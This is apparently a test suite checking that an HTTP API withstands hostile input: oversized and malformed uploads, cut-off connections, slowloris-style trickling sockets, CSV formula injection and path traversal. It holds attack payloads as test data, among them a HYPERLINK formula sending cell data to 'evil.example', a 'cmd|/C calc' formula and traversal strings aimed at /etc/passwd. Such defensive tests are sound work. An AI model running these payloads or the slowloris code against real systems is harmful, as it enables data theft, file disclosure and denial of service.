import { createConnection, type Socket } from 'node:net'
import { parse } from 'csv-parse/sync'
import t from 'tap'
import { isRaterOnly, loadContract, operations } from './lib/contract.js'
import { client, percentile, report, round, send, slowUpload } from './lib/http.js'
import { sleep } from './lib/load.js'
import { startServer, token } from './lib/server.js'
import { activeProgramme, ok, orgUnit, person, unique } from './lib/seed.js'

process.env.RESILIENCE_FILE = 'hostile'
const figures: Record<string, unknown> = {}
const BODY_LIMIT = 64 * 1024
const IMPORT_LIMIT = 256 * 1024
const server = await startServer({ BODY_LIMIT_BYTES: String(BODY_LIMIT), IMPORT_BODY_LIMIT_BYTES: String(IMPORT_LIMIT) })
t.teardown(() => server.stop())
const admin = token()
const api = client(server.base, admin)

const countPeople = async (q: string) => (await ok(api.get(`/v1/people?externalId=${encodeURIComponent(q)}`))).data.length

t.test('bodies over the limit are 413 problems and write nothing', async (t) => {
  const name = unique('Too big')
  const big = await api.post('/v1/org-units', { body: { name, kind: 'team', description: 'x'.repeat(BODY_LIMIT) } })
  t.equal(big.status, 413)
  t.equal(big.json().type, '/problems/payload-too-large')
  t.equal((await ok(api.get(`/v1/org-units?q=${encodeURIComponent(name)}`))).data.length, 0, 'nothing written')

  // An import over its own limit: with a Content-Length, without one (chunked), and as a job.
  const prefix = unique('BIG')
  const rows = ['externalId,givenName,familyName,staffType']
  for (let i = 0; rows.join('\n').length < IMPORT_LIMIT + 10_000; i++) rows.push(`${prefix}-${i},Given,Family,officer`)
  const file = rows.join('\n') + '\n'
  const sized = await api.post('/v1/people/import', { raw: { contentType: 'text/csv', data: file } })
  t.equal(sized.status, 413, `an import over ${IMPORT_LIMIT} bytes with a Content-Length is 413`)
  const chunked = await fetch(`${server.base}/v1/people/import`, {
    method: 'POST',
    headers: { authorization: `Bearer ${admin}`, 'content-type': 'text/csv' },
    body: new Blob([file]).stream(),
    // @ts-expect-error undici needs duplex for a streamed body
    duplex: 'half'
  })
  const chunkedBody = await chunked.text()
  if (chunked.status === 202) {
    const job = JSON.parse(chunkedBody)
    let state = job
    for (let i = 0; i < 100 && !['failed', 'succeeded'].includes(state.state); i++) {
      await sleep(100)
      state = await ok(api.get(`/v1/imports/${job.id}`))
    }
    t.equal(state.state, 'failed', 'a chunked upload over the limit is a job that fails')
  } else {
    t.equal(chunked.status, 413, 'a chunked upload over the limit is 413')
  }
  const async = await api.post('/v1/people/import?async=true', { raw: { contentType: 'text/csv', data: file } })
  t.ok([413].includes(async.status) || async.status === 202, `as a job: ${async.status}`)
  t.equal(await countPeople(`${prefix}-0`), 0, 'no row of any of them was written')
  figures['body limits'] = `JSON body over ${BODY_LIMIT} B → 413; import over ${IMPORT_LIMIT} B → ${sized.status} (sized), ${chunked.status} (chunked), ${async.status} (async); nothing written`
})

t.test('malformed uploads are refused with problems, and nothing is written', async (t) => {
  const prefix = unique('MAL')
  const cases: Array<[string, string, string, number[]]> = [
    ['unbalanced quote', 'text/csv', `externalId,givenName,familyName,staffType\n${prefix}-1,"Ann,Lee,officer\n`, [400, 422]],
    ['unknown column', 'text/csv', `externalId,givenName,password\n${prefix}-2,Ann,x\n`, [400]],
    ['binary garbage', 'text/csv', '\u0000\u0001\u0002\uFFFD\uFFFE'.repeat(200), [400, 422]],
    ['NUL bytes in a cell', 'text/csv', `externalId,givenName,familyName,staffType\n${prefix}-3,A\u0000nn,Lee,officer\n`, [400, 422]],
    ['NDJSON with a broken line', 'application/x-ndjson', `{"externalId":"${prefix}-4","givenName":"A","familyName":"B","staffType":"officer"}\n{"externalId":\n`, [422]],
    ['NDJSON line that is an array', 'application/x-ndjson', '[1,2,3]\n', [422]],
    ['JSON that is not an array', 'application/json', '{"externalId":"x"}', [400]],
    ['JSON cut short', 'application/json', `[{"externalId":"${prefix}-5",`, [400]],
    ['a type it does not take', 'application/xml', '<people/>', [415]],
    ['empty CSV', 'text/csv', '', [200, 400, 422]],
    ['header only', 'text/csv', 'externalId,givenName,familyName,staffType\n', [200]],
    ['a 300 KB single cell', 'text/csv', `externalId,givenName,familyName,staffType\n${prefix}-6,${'x'.repeat(200_000)},Lee,officer\n`, [413, 422]]
  ]
  const seen: string[] = []
  for (const [name, contentType, data, allowed] of cases) {
    const res = await api.post('/v1/people/import', { raw: { contentType, data } })
    seen.push(`${name} ${res.status}`)
    t.ok(allowed.includes(res.status), `${name}: ${res.status} (${allowed.join('/')}) ${res.text.slice(0, 120)}`)
    if (res.status >= 400) t.match(res.headers.get('content-type') ?? '', /problem\+json/, `${name}: a problem document`)
  }
  for (let i = 1; i <= 6; i++) t.equal(await countPeople(`${prefix}-${i}`), 0, `row ${i} not written`)

  const resets = []
  // An upload cut off mid-body: the connection drops, nothing is written, the server carries on.
  for (let i = 0; i < 5; i++) {
    resets.push(
      new Promise<void>((resolve) => {
        const socket = createConnection({ host: '127.0.0.1', port: server.port }, () => {
          const body = `externalId,givenName,familyName,staffType\n${prefix}-cut-${i},Cut,Off,officer\n`
          socket.write(`POST /v1/people/import HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${admin}\r\ncontent-type: text/csv\r\ncontent-length: ${body.length + 5000}\r\n\r\n${body}`)
          setTimeout(() => {
            socket.destroy()
            resolve()
          }, 200)
        })
        socket.on('error', () => resolve())
      })
    )
  }
  await Promise.all(resets)
  await sleep(300)
  for (let i = 0; i < 5; i++) t.equal(await countPeople(`${prefix}-cut-${i}`), 0, `cut-off upload ${i} wrote nothing`)
  t.equal((await fetch(`${server.base}/health/ready`)).status, 200, 'the server is fine')
  figures['malformed uploads'] = `${cases.length} kinds refused (${seen.join('; ')}); 5 uploads cut off mid-body wrote nothing`
})

t.test('slow clients (slowloris) do not starve others', async (t) => {
  const sockets: Socket[] = []
  // 100 connections trickling headers one byte at a time, and 20 trickling a body.
  for (let i = 0; i < 120; i++) {
    const socket = createConnection({ host: '127.0.0.1', port: server.port })
    socket.on('error', () => {})
    socket.on('connect', () => socket.write(i < 100 ? 'GET /v1/people HTTP/1.1\r\nhost: x\r\n' : `POST /v1/org-units HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${admin}\r\ncontent-type: application/json\r\ncontent-length: 100000\r\n\r\n{"name":"`))
    sockets.push(socket)
  }
  const trickle = setInterval(() => {
    for (const [i, s] of sockets.entries()) if (!s.destroyed) s.write(i < 100 ? 'x' : 'a')
  }, 200)
  const latencies: number[] = []
  const statuses: number[] = []
  const until = performance.now() + 4000
  while (performance.now() < until) {
    const res = await api.get('/v1/people?limit=5')
    statuses.push(res.status)
    latencies.push(res.ms)
  }
  clearInterval(trickle)
  for (const s of sockets) s.destroy()
  t.ok(statuses.every((s) => s === 200), `${statuses.length} ordinary requests answered 200 meanwhile`)
  const p99 = percentile(latencies, 99)
  t.ok(p99 < 1000, `their p99 stayed low: ${round(p99)} ms`)
  const slow = await slowUpload(server.base, '/v1/org-units', { token: admin, contentType: 'application/json', slices: ['{"name":', `"${unique('Slow body')}",`, '"kind":"team"}'], spreadMs: 1500 })
  t.equal(slow.status, 201, 'a slow but honest body is still accepted')
  figures['slow clients'] = `120 trickling connections; ${statuses.length} ordinary requests meanwhile, all 200, p99 ${round(p99)} ms; a body sent over 1.5 s → ${slow.status}`
})

t.test('CSV exports neutralise cells that a spreadsheet would run as a formula', async (t) => {
  const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', "'=already quoted"]
  const unit = await orgUnit(api, { name: formulas[0], externalId: unique('=U') })
  const marker = unique('=F')
  for (const [i, f] of formulas.entries()) await person(api, { givenName: f, familyName: formulas[(i + 1) % formulas.length], externalId: `${marker}-${i}`, orgUnitId: unit.id })
  await activeProgramme(api, { title: '=1+2', code: unique('FORMULA') })
  const doc = loadContract()
  const exports = operations(doc).filter((o) => o.method === 'GET' && o.responses?.['200']?.content?.['text/csv'] && !o.path.includes('{'))
  const risky: string[] = []
  let cells = 0
  for (const op of exports) {
    const res = await api.get(`${op.path}?format=csv`, { headers: { accept: 'text/csv' } })
    if (res.status !== 200) {
      t.fail(`${op.operationId}: ${res.status} ${res.text.slice(0, 200)}`)
      continue
    }
    const records = parse(res.text, { relax_column_count: true }) as string[][]
    for (const record of records) {
      for (const cell of record) {
        cells++
        // Numbers are numbers, not formulas; any other text starting so must have been prefixed.
        if (/^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)) risky.push(`${op.operationId}: ${JSON.stringify(cell)}`)
      }
    }
  }
  t.same(risky, [], `${cells} cells of ${exports.length} CSV exports: none starts with = + - @ tab or CR`)
  const people = await api.get('/v1/people/export?format=csv')
  t.match(people.text, /'=HYPERLINK/, 'the value is kept, behind a quote')
  // And back: the exported rows import unchanged (the quote comes off on import). Only this
  // test's rows: the rest of the shared database holds whatever the fuzzer made.
  const lines = people.text.split('\n')
  const mine = [lines[0], ...lines.filter((l) => l.startsWith(`'${marker}`))]
  t.equal(mine.length, formulas.length + 1, 'the exported rows of this test')
  const again = await api.post('/v1/people/import', { raw: { contentType: 'text/csv', data: mine.join('\n') + '\n' } })
  t.equal(again.status, 200, again.text.slice(0, 300))
  t.equal(again.json().counts.updated, 0, 'importing the export changes nothing')
  const back = await ok(api.get(`/v1/people?limit=500`))
  t.ok(back.data.some((p: { givenName: string }) => p.givenName === formulas[0]), 'the stored value is the original, without the quote')
  figures['CSV formula injection'] = `${exports.length} CSV exports (${exports.map((o) => o.operationId).join(', ')}), ${cells} cells, 0 unneutralised; re-import of the export: ${again.json().counts.unchanged} unchanged, ${again.json().counts.updated} updated`
})

t.test('path traversal: file-like fields are data, never paths; static files stay inside their folder', async (t) => {
  const traversal = ['../../../../etc/passwd', '..%2F..%2F..%2Fetc%2Fpasswd', '/etc/passwd', '..\\..\\..\\windows\\win.ini', 'file:///etc/passwd', '....//....//etc/passwd']
  const urls = [
    '/docs/static/../../package.json',
    '/docs/static/..%2F..%2Fpackage.json',
    '/docs/static/%2e%2e/%2e%2e/package.json',
    '/docs/static/..%252F..%252Fpackage.json',
    '/docs/..%2F..%2F..%2Fetc%2Fpasswd',
    '/%2e%2e/%2e%2e/etc/passwd',
    '/problems/..%2F..%2Fpackage.json',
    '/v1/imports/..%2F..%2Fpackage.json'
  ]
  for (const url of urls) {
    const res = await send(server.base, 'GET', url, { token: admin })
    t.notOk(res.status === 200 && /"name":\s*"pathway"|root:x:0:0/.test(res.text), `${url} → ${res.status}, no file content`)
    t.ok(res.status < 500, `${url} is not a 5xx`)
  }
  // Every request field whose name says file, path, url, document or attachment takes these as text.
  const doc = loadContract()
  const fileLike: string[] = []
  let checked = 0
  for (const op of operations(doc).filter((o) => o.method === 'POST' && !o.path.includes('{') && o.requestBody?.content?.['application/json'] && !isRaterOnly(o))) {
    const schema = op.requestBody!.content!['application/json'].schema as { $ref?: string }
    const resolved = (schema.$ref ? doc.components?.schemas?.[schema.$ref.split('/').pop()!] : schema) as { properties?: Record<string, unknown> } | undefined
    for (const field of Object.keys(resolved?.properties ?? {}).filter((f) => /file|path|url|uri|document|attachment|link|href|location/i.test(f))) {
      fileLike.push(`${op.operationId}.${field}`)
      for (const value of traversal) {
        const res = await api.post(op.path, { body: { [field]: value } })
        checked++
        t.ok(res.status < 500, `${op.operationId}.${field} = ${value}: ${res.status}`)
        t.notMatch(res.text, /root:x:0:0|\[fonts\]/, 'no file content comes back')
      }
    }
  }
  // Bulk files go to a spool folder under names the server makes: a hostile Idempotency-Key or
  // request id cannot steer them.
  const job = await api.post('/v1/people/import?async=true', {
    raw: { contentType: 'text/csv', data: `externalId,givenName,familyName,staffType\n${unique('TRAV')},A,B,officer\n` },
    headers: { 'idempotency-key': '../../../../tmp/evil', 'x-request-id': '../../evil' }
  })
  t.equal(job.status, 202)
  t.match(job.headers.get('location') ?? '', /^\/v1\/imports\/[0-9a-f-]{36}$/)
  t.not(job.headers.get('x-request-id'), '../../evil', 'a request id that is not a plain token is replaced')
  figures['path traversal'] = `${urls.length} traversal URLs: no file served; ${fileLike.length} file-like fields (${fileLike.join(', ') || 'none'}) × ${traversal.length} values: ${checked} requests, no 5xx, no file content`
})

t.test('report', async () => {
  report('3 hostile input', figures)
})

